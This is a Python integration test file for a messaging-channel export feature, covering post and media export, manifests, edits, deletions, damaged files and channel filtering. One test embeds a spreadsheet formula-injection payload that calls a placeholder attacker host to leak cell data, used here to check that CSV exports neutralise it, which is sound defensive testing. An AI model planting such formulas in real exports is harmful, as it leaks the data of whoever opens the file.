"""Exports of what came in: what their files hold."""

from __future__ import annotations

import csv
import io
import json

from app import wiring
from app.domain.export.plan import Format
from app.exports.checks.verify import verify_export
from tests.factories.messages import album, message, photo, sha256
from tests.factories.worlds import CITY
from tests.integration.pipeline.database import rows
from tests.integration.pipeline.exporting import contents, export, posts
from tests.integration.pipeline.flow import Flow

CAT = photo("кот окно", "МЯУ 5")


def test_an_export_holds_each_publication_and_each_file_once(flow: Flow) -> None:
    flow.post(message(1, "Паром один", CAT), *album([2, 3], 77, {2: "Паром два"}), message(5, "Паром три", CAT))
    flow.post(message(6, "Трамвай"))
    flow.watch()
    directory = export(flow, "паром")
    found = posts(directory)
    assert [one["permalink"] for one in found] == [f"https://t.me/news/{number}" for number in (5, 1, 2)]
    assert [len(one["posts"]) for one in found] == [1, 1, 2]
    [cat] = found[0]["posts"][0]["media"]
    assert cat["sha256"] == sha256(CAT)
    assert cat["path"] == f"media/{sha256(CAT)[:2]}/{sha256(CAT)}.jpg"
    assert cat["reading"]["words"] == "МЯУ 5"
    assert (directory / cat["path"]).read_bytes() == CAT.data
    files = [path for path in contents(directory) if path.startswith("media/")]
    assert len(files) == len({medium["sha256"] for one in found for post in one["posts"] for medium in post["media"]})
    assert verify_export(directory).findings == []


def test_the_manifest_tells_where_a_file_is_from(flow: Flow) -> None:
    flow.post(message(1, "Паром один", CAT), message(5, "Паром два", CAT))
    flow.watch()
    lines = (export(flow, "паром") / "manifest.jsonl").read_text().splitlines()
    [cat] = [told for told in map(json.loads, lines[1:]) if told["path"].startswith("media/")]
    assert cat["sha256"] == sha256(CAT)
    assert (cat["permalink"], cat["revision"]) == ("https://t.me/news/5", 1)
    times = rows("SELECT min(posted_at), max(posted_at) FROM posts")
    assert [cat["first_seen_at"], cat["last_seen_at"]] == [moment.isoformat() for moment in times[0]]


def test_edited_and_deleted_posts_say_so(flow: Flow) -> None:
    flow.post(message(1, "Паром был"), message(2, "Паром есть"))
    flow.watch()
    flow.post(message(1, "Паром стал"))
    flow.delete(2)
    flow.run()
    edited, deleted = sorted(posts(export(flow, "паром")), key=lambda one: str(one["permalink"]))
    assert [before["text"] for before in edited["posts"][0]["earlier"]] == ["Паром был"]
    assert edited["revision"] == 2
    assert deleted["deleted_at"]
    assert edited["last_seen_at"] >= edited["first_seen_at"]


def test_without_media_the_posts_name_the_files_all_the_same(flow: Flow) -> None:
    flow.post(message(1, "Паром", CAT))
    flow.watch()
    directory = export(flow, "паром", media=False)
    assert not (directory / "media").exists()
    [medium] = posts(directory)[0]["posts"][0]["media"]
    assert (medium["sha256"], medium["path"]) == (sha256(CAT), None)
    assert verify_export(directory).ok


def test_a_file_that_the_store_lost_or_damaged_is_named_as_missing(flow: Flow) -> None:
    dog = photo("собака")
    flow.post(message(1, "Паром", CAT), message(2, "Паром", dog))
    flow.watch()
    wiring.store().path(sha256(CAT)).unlink()
    damaged = wiring.store().path(sha256(dog))
    damaged.chmod(0o600)
    damaged.write_bytes(b"something else")
    directory = export(flow, "паром")
    media = [medium for one in posts(directory) for medium in one["posts"][0]["media"]]
    assert [medium["path"] for medium in media] == [None, None]
    assert all("verify" in medium["missing"] for medium in media)
    assert verify_export(directory).ok


def test_no_cell_of_the_table_is_a_formula(flow: Flow) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Паром")'
    flow.post(message(1, evil), message(2, 'Паром, "два"\r\n+1'))
    flow.watch()
    text = (export(flow, "паром OR evil", [Format.CSV]) / "posts.csv").read_bytes().decode()
    read = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [one["text"] for one in read] == ['Паром, "два"\r\n+1', "'" + evil]
    assert not any(cell[:1] in set("=+-@\t\r") for one in read for cell in one.values() if cell)


def test_a_token_of_some_channels_exports_those_alone(flow: Flow) -> None:
    flow.post(message(1, "Паром"))
    flow.post(message(7, "Паром"), channel=CITY)
    flow.watch("@news", "@city")
    [[city]] = rows("SELECT id FROM channels WHERE reference = '@city'")
    assert [one["channel"]["username"] for one in posts(export(flow, "паром", channel_ids=[city]))] == ["city"]
    empty = export(flow, "паром", channel_ids=[])
    assert posts(empty) == []
    assert verify_export(empty).ok
